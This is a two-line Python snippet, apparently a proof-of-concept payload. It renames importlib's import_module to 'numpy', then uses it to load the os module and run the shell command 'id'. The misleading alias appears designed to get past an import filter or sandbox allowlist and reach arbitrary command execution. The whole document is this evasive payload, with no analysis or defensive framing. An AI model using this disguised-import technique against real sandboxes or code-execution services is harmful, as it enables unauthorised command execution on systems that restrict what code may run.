from importlib import import_module as numpy
numpy("os").system("id")
